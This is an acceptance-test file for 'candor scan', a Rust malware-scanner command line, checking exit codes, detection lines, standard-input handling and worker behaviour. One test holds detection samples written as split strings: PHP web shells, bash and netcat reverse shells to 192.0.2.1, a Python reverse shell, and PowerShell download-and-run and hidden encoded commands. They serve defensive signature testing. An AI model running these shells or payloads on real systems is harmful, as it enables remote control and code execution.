//! `candor scan` as a user meets it: lines, exit codes, and nothing called clean that was not.
#![expect(clippy::unwrap_used, reason = "helpers of tests fail as tests do")]

use std::fs;
use std::io::{Read, Write};
use std::os::unix::process::ExitStatusExt;
use std::process::{Command, Stdio};

use acceptance::cli::{MARKER, Ran, Scene, candor, candor_under, eicar, program, ran, run};

fn with_input(command: &mut Command, input: &[u8]) -> Ran {
    let mut child = command
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(input).unwrap();
    ran(child.wait_with_output().unwrap())
}

#[test]
fn a_clean_file_is_clean_and_the_exit_code_says_so() {
    let scene = Scene::default();
    let file = scene.write("letter.txt", "nothing to see");
    let ran = run(scene.scan().arg(&file));
    assert_eq!(ran.code, Some(0), "{ran:?}");
    assert!(
        ran.out.contains("\nScanned: 1 file\nDetected: 0\n"),
        "{ran:?}"
    );
    assert!(!ran.out.contains("letter.txt"), "{ran:?}");
    assert_eq!(ran.err, "");
}

#[test]
fn a_detection_is_one_line_that_scripts_can_read() {
    let scene = Scene::default();
    let file = scene.write("a.bin", format!("xx{MARKER}"));
    scene.write("b.bin", "clean");
    let ran = run(scene.scan().arg(scene.at("a.bin")).arg(scene.at("b.bin")));
    assert_eq!(ran.code, Some(1), "{ran:?}");
    let line = format!("{}: Test.Marker FOUND", file.display());
    assert_eq!(ran.out.lines().next(), Some(line.as_str()), "{ran:?}");
    assert!(
        ran.out.contains("Scanned: 2 files\nDetected: 1\n"),
        "{ran:?}"
    );
}

#[test]
fn the_starter_pack_detects_the_test_file_and_calls_nothing_clean() {
    let scene = Scene::default();
    let test = scene.write("eicar.com", eicar());
    let other = scene.write("other", "harmless");
    let found = run(candor().args(["scan", "--pack", "starter"]).arg(&test));
    assert_eq!(found.code, Some(1), "{found:?}");
    assert!(
        found.out.contains("eicar.com: Candor.Test.EICAR FOUND"),
        "{found:?}"
    );
    let unknown = run(candor().args(["scan", "--pack", "starter"]).arg(&other));
    assert_eq!(unknown.code, Some(2), "{unknown:?}");
    assert!(
        unknown.out.contains("starter-signatures-only: 1"),
        "{unknown:?}"
    );
    assert!(unknown.out.contains("candor scan --db"), "{unknown:?}");
    let mut quiet = candor();
    quiet.args([
        "scan",
        "--quiet",
        "--incomplete",
        "report",
        "--pack",
        "starter",
    ]);
    let quiet = run(quiet.arg(&other));
    assert_eq!(quiet.code, Some(2), "{quiet:?}");
    assert_eq!(quiet.out, "");
    assert!(quiet.err.contains("starter"), "{quiet:?}");
}

#[test]
fn every_starter_heuristic_fires_and_prose_does_not() {
    let scene = Scene::default();
    let samples = [
        (
            "Candor.Test.Text",
            [
                "CANDOR*TEST*TEXT*HARMLESS*",
                "BUT*TO*BE*DETECTED*4F7A11C29E",
            ],
        ),
        (
            "Candor.Heuristic.PHP.EvalBase64Request",
            ["<?php eval(base64_", "decode($_POST['x']));"],
        ),
        (
            "Candor.Heuristic.PHP.EvalRequest",
            ["<?php @eval", "($_REQUEST['x']);"],
        ),
        (
            "Candor.Heuristic.PHP.ShellRequest",
            ["<?php system", "($_GET['c']); ?>"],
        ),
        (
            "Candor.Heuristic.PHP.InflatedCode",
            ["eval(gzinflate(", "base64_decode('AA')));"],
        ),
        (
            "Candor.Heuristic.Shell.ReverseBash",
            ["bash -i >& /dev", "/tcp/192.0.2.1/4444 0>&1"],
        ),
        (
            "Candor.Heuristic.Shell.ReverseNetcat",
            [
                "rm /tmp/f;mkfifo /tmp",
                "/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
            ],
        ),
        (
            "Candor.Heuristic.Python.ReverseShell",
            [
                "import socket,subprocess,os;",
                "s=socket.socket(a);s.connect(b);os.dup2(s.fileno(),0)",
            ],
        ),
        (
            "Candor.Heuristic.PowerShell.DownloadAndRun",
            [
                "IEX (New-Object ",
                "Net.WebClient).DownloadString('http://192.0.2.1/a')",
            ],
        ),
        (
            "Candor.Heuristic.PowerShell.HiddenEncoded",
            ["powershell.exe -nop", " -w hidden -enc AAAA"],
        ),
    ];
    let mut scan = candor();
    scan.args(["scan", "--pack", "starter", "--all-matches"]);
    for (number, (_, halves)) in samples.iter().enumerate() {
        scan.arg(scene.write(number.to_string(), halves.concat()));
    }
    scan.arg(scene.write(
        "prose",
        "We eval code, run bash -i, and use powershell -nop every day.",
    ));
    let ran = run(&mut scan);
    for (number, (name, _)) in samples.iter().enumerate() {
        let line = format!("{}: {name} FOUND", scene.at(number.to_string()).display());
        assert!(ran.out.contains(&line), "{line}\n{ran:?}");
    }
    assert!(!ran.out.contains("prose:"), "{ran:?}");
}

#[test]
fn standard_input_is_scanned_as_bytes() {
    let scene = Scene::default();
    let found = with_input(scene.scan().arg("-"), format!("a{MARKER}").as_bytes());
    assert_eq!(found.code, Some(1), "{found:?}");
    assert!(
        found
            .out
            .starts_with("(standard input): Test.Marker FOUND\n"),
        "{found:?}"
    );
    let clean = with_input(scene.scan().arg("-"), b"nothing");
    assert_eq!(clean.code, Some(0), "{clean:?}");
    let bounded = with_input(scene.scan().args(["--max-bytes", "1K", "-"]), &[b'a'; 5000]);
    assert_eq!(bounded.code, Some(2), "{bounded:?}");
    assert!(
        bounded.out.contains("incomplete: limit-bytes"),
        "{bounded:?}"
    );
}

#[test]
fn a_standard_input_that_can_not_be_read_is_no_empty_one() {
    let scene = Scene::default();
    let elsewhere = scene.at("elsewhere");
    for (redirection, why) in [
        ("<&-".to_owned(), "standard input is closed"),
        (format!("0>{}", elsewhere.display()), "bad file descriptor"),
        (format!("<{}", scene.path().display()), "is a directory"),
    ] {
        for arguments in [&["-"][..], &["--files-from", "-"]] {
            let script = format!("exec \"$@\" {redirection}");
            let mut scan = candor_under("sh", &["-c", &script, "sh"]);
            scan.arg("scan").arg("--db").arg(scene.signatures());
            let ran = run(scan.args(arguments));
            assert_eq!(ran.code, Some(2), "{redirection} {arguments:?}: {ran:?}");
            let said = format!("{}{}", ran.out, ran.err);
            assert!(said.contains(why), "{redirection} {arguments:?}: {ran:?}");
        }
    }
    let null = run(scene.scan().arg("-"));
    assert_eq!(null.code, Some(0), "nothing is clean: {null:?}");
}

#[test]
fn a_long_standard_input_is_on_disk_and_not_in_memory() {
    let scene = Scene::default();
    let spool = scene.at("spool");
    fs::create_dir(&spool).unwrap();
    let mut child = scene
        .scan()
        .arg("-")
        .env("TMPDIR", &spool)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut input = child.stdin.take().unwrap();
    input.write_all(&vec![b'a'; 8 << 20]).unwrap();
    input.write_all(MARKER.as_bytes()).unwrap();
    // It holds the input in a file without a name, while more may come.
    let open = format!("/proc/{}/fd", child.id());
    let spooled = fs::read_dir(open)
        .unwrap()
        .filter_map(|entry| fs::read_link(entry.unwrap().path()).ok())
        .any(|target| target.starts_with(&spool));
    assert!(spooled, "nothing of it is open in the directory for it");
    assert_eq!(fs::read_dir(&spool).unwrap().count(), 0);
    drop(input);
    let end = ran(child.wait_with_output().unwrap());
    assert_eq!(end.code, Some(1), "{end:?}");
    assert!(end.out.contains("Looked at: 8.3 MB"), "{end:?}");
    assert_eq!(fs::read_dir(&spool).unwrap().count(), 0);
}

#[test]
fn a_worker_that_lies_about_sizes_ends_nothing() {
    let scene = Scene::default();
    let own = scene.at("candor");
    fs::copy(program("candor"), &own).unwrap();
    fs::copy(env!("CARGO_BIN_EXE_fake-worker"), scene.at("candor-worker")).unwrap();
    let pack = scene.write("x.pack", "any");
    for number in 0..600 {
        scene.write(format!("d/{number}"), "boasts-of-its-size");
    }
    let mut scan = Command::new(own);
    scan.env("XDG_CACHE_HOME", scene.at("cache"));
    scan.args(["scan", "--json", "--jobs", "2", "--pack"])
        .arg(pack);
    let ran = run(scan.arg(scene.at("d")));
    assert_eq!(ran.err, "");
    let lines = ran.json();
    let summary = &lines.last().unwrap()["summary"];
    assert_eq!(summary["files"], 600);
    assert_eq!(summary["bytes"], u64::MAX);
}

#[test]
fn a_path_that_does_not_exist_fails() {
    let scene = Scene::default();
    let gone = scene.at("gone");
    let ran = run(scene.scan().arg(&gone));
    assert_eq!(ran.code, Some(2), "{ran:?}");
    let line = format!("{}: error: no such file or directory\n", gone.display());
    assert!(ran.out.starts_with(&line), "{ran:?}");
}

#[test]
fn an_empty_directory_is_no_failure() {
    let scene = Scene::default();
    fs::create_dir(scene.at("empty")).unwrap();
    let ran = run(scene.scan().arg(scene.at("empty")));
    assert_eq!(ran.code, Some(0), "{ran:?}");
    assert!(ran.out.contains("Scanned: 0 files"), "{ran:?}");
}

#[test]
fn an_empty_file_is_clean() {
    let scene = Scene::default();
    let file = scene.write("empty", "");
    let ran = run(scene.scan().arg(&file));
    assert_eq!(ran.code, Some(0), "{ran:?}");
}

#[test]
fn wrong_usage_exits_2_and_names_the_remedy() {
    let scene = Scene::default();
    for (arguments, part) in [
        (vec!["scan"], "required"),
        (vec!["scan", "--max-bytes", "much", "x"], "64K"),
        (vec!["scan", "--incldue", "*.c", "x"], "--include"),
        (vec!["scan", "--include", "[", "x"], "pattern"),
        (vec!["scan", "--db", "/nonexistent", "x"], "no such file"),
        (vec!["scan", "--pack", "/nonexistent", "x"], "no such file"),
        (
            vec!["scan", "--db", "d", "--pack", "p", "x"],
            "cannot be used with",
        ),
        (vec!["scna", "x"], "scan"),
    ] {
        let ran = run(candor().args(&arguments));
        assert_eq!(ran.code, Some(2), "{arguments:?}: {ran:?}");
        assert!(ran.err.contains(part), "{arguments:?}: {ran:?}");
    }
    let empty = scene.at("empty");
    fs::create_dir(&empty).unwrap();
    let ran = run(candor().args(["scan", "--db"]).arg(&empty).arg("x"));
    assert_eq!(ran.code, Some(2));
    assert!(ran.err.contains("freshclam --datadir="), "{ran:?}");
}

#[test]
fn a_file_that_is_no_pack_is_refused() {
    let scene = Scene::default();
    let file = scene.write("x.pack", "this is not a pack");
    let ran = run(candor().args(["scan", "--pack"]).arg(&file).arg(&file));
    assert_eq!(ran.code, Some(2), "{ran:?}");
    assert!(ran.err.contains("x.pack"), "{ran:?}");
}

#[test]
fn colours_are_for_terminals_or_on_request() {
    let scene = Scene::default();
    let file = scene.write("a", MARKER);
    let piped = run(scene.scan().arg(&file));
    assert!(!piped.out.contains('\x1b'), "{piped:?}");
    let always = run(scene.scan().args(["--color", "always"]).arg(&file));
    assert!(always.out.contains("\x1b[1;31mFOUND\x1b[0m"), "{always:?}");
    assert_eq!(always.err, "", "progress is for terminals");
}

#[test]
fn a_terminal_gets_colours_unless_no_color_says_otherwise() {
    if Command::new("script").arg("--version").output().is_err() {
        println!("skipped: `script` is not installed");
        return;
    }
    let scene = Scene::default();
    let file = scene.write("a", MARKER);
    let scan = scene.scan();
    let words: Vec<_> = [scan.get_program()]
        .into_iter()
        .chain(scan.get_args())
        .map(|word| word.to_str().unwrap().to_owned())
        .chain([file.to_str().unwrap().to_owned()])
        .collect();
    let on_terminal = |no_color: &str| {
        let mut script = Command::new("script");
        script
            .args(["-q", "-e", "-c", &words.join(" "), "/dev/null"])
            .env("NO_COLOR", no_color)
            .envs(
                scan.get_envs()
                    .filter_map(|(name, value)| Some((name, value?))),
            )
            .stdin(Stdio::null());
        run(&mut script)
    };
    assert!(on_terminal("").out.contains("\x1b[1;31mFOUND"));
    let plain = on_terminal("1");
    assert!(plain.out.contains("Test.Marker FOUND"), "{plain:?}");
    assert!(!plain.out.contains("\x1b[1;31m"), "{plain:?}");
}

#[test]
fn verbose_says_everything_and_quiet_says_little() {
    let scene = Scene::default();
    scene.write("d/clean", "x");
    scene.write("d/bad", MARKER);
    let verbose = run(scene
        .scan()
        .args(["--verbose", "--sha256"])
        .arg(scene.at("d")));
    for part in [
        "clean: clean\n",
        "by test.ndb:1 (ndb)",
        "at 0, 24 bytes",
        "sha256 ",
    ] {
        assert!(verbose.out.contains(part), "{part:?} in {verbose:?}");
    }
    let quiet = run(scene.scan().arg("--quiet").arg(scene.at("d")));
    let line = format!("{}: Test.Marker FOUND\n", scene.at("d/bad").display());
    assert_eq!(quiet.out, line);
}

#[test]
fn a_reader_that_goes_away_ends_the_scan_quietly() {
    let scene = Scene::default();
    for number in 0..300 {
        scene.write(format!("d/{number}"), MARKER);
    }
    let mut child = scene
        .scan()
        .arg(scene.at("d"))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = [0; 1];
    let mut output = child.stdout.take().unwrap();
    output.read_exact(&mut first).unwrap();
    drop(output);
    let end = child.wait_with_output().unwrap();
    assert_eq!(end.status.code(), Some(1), "{end:?}");
    assert!(end.stderr.is_empty(), "{end:?}");
}

#[test]
fn an_interrupt_ends_it_as_interrupts_do() {
    let scene = Scene::default();
    let mut child = scene
        .scan()
        .arg("-")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let interrupted = Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(interrupted.success());
    assert_eq!(child.wait().unwrap().signal(), Some(2));
}

#[test]
fn a_fresh_worker_for_each_file_finds_the_same() {
    let scene = Scene::default();
    for number in 0..8 {
        let content = if number % 2 == 0 { MARKER } else { "clean" };
        scene.write(format!("d/{number}"), content);
    }
    let ran = run(scene
        .scan()
        .args(["--isolation", "per-file", "--jobs", "2"])
        .arg(scene.at("d")));
    assert_eq!(ran.code, Some(1), "{ran:?}");
    assert!(
        ran.out.contains("Scanned: 8 files\nDetected: 4\n"),
        "{ran:?}"
    );
}

#[test]
fn more_files_than_a_queue_holds_are_all_answered() {
    let scene = Scene::default();
    for number in 0..2_000 {
        scene.write(format!("d/{}/{number}", number % 7), "clean");
    }
    let ran = run(scene.scan().arg(scene.at("d")));
    assert_eq!(ran.code, Some(0), "{ran:?}");
    assert!(ran.out.contains("Scanned: 2,000 files"), "{ran:?}");
}
